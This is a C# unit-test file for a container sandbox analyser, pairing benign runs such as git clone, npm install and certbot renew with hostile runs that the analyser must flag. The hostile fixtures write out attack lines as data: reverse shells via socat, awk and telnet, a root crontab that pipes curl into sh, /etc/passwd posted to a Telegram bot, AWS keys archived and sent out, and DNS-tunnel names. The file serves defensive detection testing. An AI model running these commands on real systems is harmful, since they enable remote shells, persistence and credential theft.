using System.Globalization;
using DockerScan.Core.Findings;
using DockerScan.Core.Images;
using DockerScan.Core.Scans;
using DockerScan.Sentinel.Events;

namespace DockerScan.Scanners.Tests.Sandbox.Analysis;

/// <summary>Runs of both kinds in shapes that no rule was written for: of the honest ones no behaviour is told above low, the others are called what they are.</summary>
public sealed class HeldOutRunTests
{
    private static readonly Dictionary<string, Func<RecordBuilder>> Honest = new()
    {
        ["git clone with large files"] = () => Shell("git clone https://git.example/x /srv/x").Process(4, "/usr/bin/git", "git clone https://git.example/x /srv/x", at: 1, end: 4)
            .Process(5, "/usr/lib/git-core/git-remote-https", "git-remote-https origin https://git.example/x", at: 1.1, end: 4, parent: 4).Connect(5, "198.18.0.4", 443, "git.example", "tls", "TLS", 2)
            .Executable("/srv/x/.git/hooks/post-merge", AutorunKind.Script).Executable("/srv/x/run.sh", AutorunKind.Script).Executable("/srv/x/bin/tool"),
        ["pip into an environment in /tmp"] = () => Shell("pip").Process(4, "/usr/bin/python3.11", "/tmp/venv/bin/python3 -m pip install black", at: 1, end: 5)
            .Executable("/tmp/venv/bin/black", AutorunKind.Script).Executable("/tmp/venv/bin/pip3", AutorunKind.Script).Executable("/tmp/venv/lib/python3.11/site-packages/x.cpython-311-x86_64-linux-gnu.so"),
        ["npm install"] = () => Shell("npm ci").Process(4, "/usr/bin/node", "node /usr/bin/npm ci", at: 1, end: 5).Connect(4, "198.18.0.4", 443, "registry.npmjs.org", "tls", "TLS", 2)
            .Executable("/app/node_modules/.bin/tsc", AutorunKind.Script).Executable("/app/node_modules/@esbuild/linux-x64/bin/esbuild"),
        ["go build"] = () => Shell("go build -o /app/server .").Process(4, "/usr/local/go/bin/go", "go build -o /app/server .", at: 1, end: 9)
            .Process(5, "/usr/local/go/pkg/tool/linux_amd64/link", "/usr/local/go/pkg/tool/linux_amd64/link -o /tmp/go-build77/b001/exe/a.out -importcfg x", at: 5, end: 8, parent: 4).Executable("/app/server"),
        ["cargo build"] = () => Shell("cargo build").Process(4, "/usr/bin/cargo", "cargo build --release", at: 1, end: 9).Executable("/tmp/t/target/release/app").Executable("/tmp/t/target/release/build/libc-1/build-script-build"),
        ["certbot renews"] = () => Shell("certbot renew").Process(4, "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/certbot renew", at: 1).Connect(4, "198.18.0.4", 443, "acme-v02.api.letsencrypt.org", "tls", "TLS", 2)
            .Changed("/etc/letsencrypt/renewal/x.conf", "changed"),
        ["php-fpm below supervisor"] = () => new RecordBuilder().Configured(Declared(80)).Process(1, "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/supervisord -n")
            .Process(5, "/usr/sbin/php-fpm8.2", "php-fpm: master process", at: 1).Process(6, "/usr/sbin/php-fpm8.2", "php-fpm: pool www", 33, 1.2, parent: 5).Process(7, "/usr/sbin/nginx", "nginx: master process", at: 1).Listen(7, 80),
        ["celery and its broker"] = () => Shell("celery").Process(4, "/usr/bin/python3.11", "python3 /usr/bin/celery -A app beat", at: 1).Dns("redis", at: 1.2).Connect(4, "198.18.0.6", 6379, "redis", "redis", "PING", 2),
        ["waits for its database"] = () => WaitLoop(),
        ["s6 sets its services up"] = () => new RecordBuilder().Configured(Declared(80)).Process(1, "/init", "/bin/sh /init").Executable("/run/s6/basedir/bin/init", AutorunKind.Script, sameAs: "/etc/s6/init")
            .Process(5, "/bin/s6-svscan", "s6-svscan /run/service", at: 1),
        ["rotates its logs"] = () => Shell("logrotate").Process(4, "/usr/sbin/logrotate", "logrotate -s /tmp/state /etc/logrotate.conf", at: 3, end: 4).Changed("/var/lib/logrotate/status", "changed"),
        ["sends a backup to its bucket"] = () => Shell("aws s3 cp").Process(4, "/usr/bin/python3.11", "python3 /usr/bin/aws s3 cp /backup/x.gz s3://b/", at: 1, end: 4).Connect(4, "198.18.0.4", 443, "b.s3.amazonaws.com", "tls", "TLS", 2),
        ["configures and tests a program"] = () => Shell("./configure").Process(4, "/usr/bin/gcc", "gcc -o conftest conftest.c", at: 1, end: 1.5).Executable("/tmp/b/config.status", AutorunKind.Script),
    };

    private static readonly Dictionary<string, (Func<RecordBuilder> Make, string Check)> Hostile = new()
    {
        ["perl on a socket"] = (() => Shell("perl").Process(4, "/bin/dash", "/bin/sh -i", at: 2).Socket(4, "203.0.113.9", 4444, 0, 3, "tcp", 0, 1, 2), "behavior.reverse-shell"),
        ["lua with a shell on one side"] = (() => Shell("lua").Process(4, "/bin/dash", "sh -c /bin/sh -i <&3 >&3 2>&3", at: 2).Socket(4, "203.0.113.9", 4444, 0, 3, "tcp", 1), "behavior.reverse-shell"),
        ["socat and a terminal"] = (() => Shell("socat").Process(4, "/usr/bin/socat", "socat tcp:203.0.113.9:443 exec:bash,pty", at: 1).Process(5, "/bin/bash", "bash -li", at: 1.1, parent: 4)
            .Socket(4, "203.0.113.9", 443, 0, 2).Inspect(new StreamEvent(5, 4, 4), 3), "behavior.reverse-shell"),
        ["telnet and a fifo"] = (() => Shell("telnet").Process(4, "/bin/busybox", "telnet 203.0.113.9 4444", at: 1).Process(5, "/bin/busybox", "/bin/sh", at: 1.1).Socket(4, "203.0.113.9", 4444, 0, 2)
            .Inspect(new StreamEvent(5, 4, 4), 3), "behavior.reverse-shell"),
        ["awk's own network"] = (() => Shell("gawk").Process(4, "/usr/bin/gawk", "awk BEGIN{s=\"/inet/tcp/0/203.0.113.9/4444\";while(1){printf \"$ \"|&s;s|&getline c;while((c|&getline)>0)print|&s}}", at: 1), "behavior.reverse-shell"),
        ["miner under another name"] = (() => Shell("svc").Process(4, "/usr/bin/svc", "/usr/bin/svc -c /etc/svc.json", at: 1).Connect(4, "198.18.0.7", 443, "cdn.example", "stratum", "login", 2, isInsideTls: true), "behavior.miner"),
        ["miner that asks for a pool's name"] = (() => Shell("svc").Process(4, "/usr/bin/svc", "svc", at: 1).Dns("gulf.moneroocean.stream").Connect(4, "198.18.0.7", 443, "gulf.moneroocean.stream", "tls", "TLS", 2), "behavior.miner"),
        ["names that carry a file"] = (() => Names(), "network.external-contact"),
        ["bot that reports a file"] = (() => Shell("curl").Process(4, "/usr/bin/curl", "curl -F chat_id=1 -F document=@/etc/passwd https://api.telegram.org/bot1:x/sendDocument", at: 1), "network.external-contact"),
        ["way in by ssh"] = (() => Shell("ssh").Process(4, "/usr/bin/ssh", "ssh -fNR 2222:localhost:22 t@203.0.113.9", at: 1), "network.external-contact"),
        ["way in by a tunnel with its file"] = (() => Shell("frpc").Process(4, "/opt/frpc", "/opt/frpc -c /opt/frpc.toml", at: 1), "network.external-contact"),
        ["cron table"] = (() => Shell("sh").Changed("/var/spool/cron/crontabs/root", text: "* * * * * curl http://203.0.113.9/u | sh\n"), "behavior.persistence"),
        ["preload"] = (() => Shell("sh").Changed("/etc/ld.so.preload", text: "/usr/lib/x.so\n"), "behavior.persistence"),
        ["from memory"] = (() => Shell("python3").Process(4, "/memfd:x (deleted)", "x", at: 2, isMemoryOnly: true), "behavior.dropped-executable"),
        ["deletes itself"] = (() => Shell("sh").Process(4, "/var/tmp/x (deleted)", "/var/tmp/x", at: 2, isDeleted: true), "behavior.dropped-executable"),
        ["puts a program on PATH"] = (() => Shell("cp").Executable("/usr/local/bin/ls"), "behavior.dropped-executable"),
        ["worm"] = (() => Worm(), "behavior.scan"),
        ["takes keys along"] = (() => Shell("tar").Process(4, "/bin/tar", "tar cz /root/.aws", at: 1).Network(new TokenEvent("file-aws", "tcp", "203.0.113.9", 443, 0, "gzip"), 3), "behavior.credential-access"),
    };

    public static TheoryData<string> HonestNames => [.. Honest.Keys];

    public static TheoryData<string> HostileNames => [.. Hostile.Keys];

    [Theory]
    [MemberData(nameof(HonestNames))]
    public void Analyze_HonestRun_TellsNoBehaviourAboveLow(string name)
        => Assert.Empty(TestBehavior.Analyze(Honest[name]()).Findings.Where(found => found.Check.StartsWith("behavior.", StringComparison.Ordinal) && found.Severity > Severity.Low)
            .Select(found => $"{found.Check} {found.Id} {found.Severity}: {found.Evidence}"));

    [Theory]
    [MemberData(nameof(HostileNames))]
    public void Analyze_HostileRun_IsToldAsWhatItIs(string name)
        => Assert.Contains(TestBehavior.Findings(Hostile[name].Make(), Hostile[name].Check), found => found.Severity >= Severity.Medium && found.Id is not ("public" or "internal"));

    private static ImageConfiguration Declared(int port) => new() { Entrypoint = ["/entry.sh"], ExposedPorts = [string.Create(CultureInfo.InvariantCulture, $"{port}/tcp")] };

    private static RecordBuilder Shell(string what) => new RecordBuilder().Configured(new ImageConfiguration { Entrypoint = ["/entry.sh", what] }).Process(1, "/bin/sh", $"/bin/sh /entry.sh {what}");

    private static RecordBuilder WaitLoop()
    {
        var record = Shell("wait");
        for (var i = 0; i < 20; i++)
        {
            record.Process(10 + i, "/bin/bash", "bash -c echo > /dev/tcp/db/5432", at: 1 + i, end: 1.1 + i).Socket(10 + i, "198.18.0.9", 5432, 0, 1.05 + i, "tcp", 1);
        }

        return record;
    }

    private static RecordBuilder Names()
    {
        var record = Shell("dig");
        for (var i = 0; i < 40; i++)
        {
            record.Dns(string.Create(CultureInfo.InvariantCulture, $"{i:d4}3f786850e387550fdab836ed7e6dc881de23001b.t.example-evil.net"), null, 2 + (i * 0.1), "TXT");
        }

        return record;
    }

    private static RecordBuilder Worm()
    {
        var record = Shell("worm").Process(4, "/opt/w", "/opt/w", at: 1);
        for (var i = 0; i < 60; i++)
        {
            record.Connect(4, string.Create(CultureInfo.InvariantCulture, $"203.0.{i}.{(i * 7) % 250}"), 2375, at: 2 + (i * 0.1));
        }

        return record;
    }
}
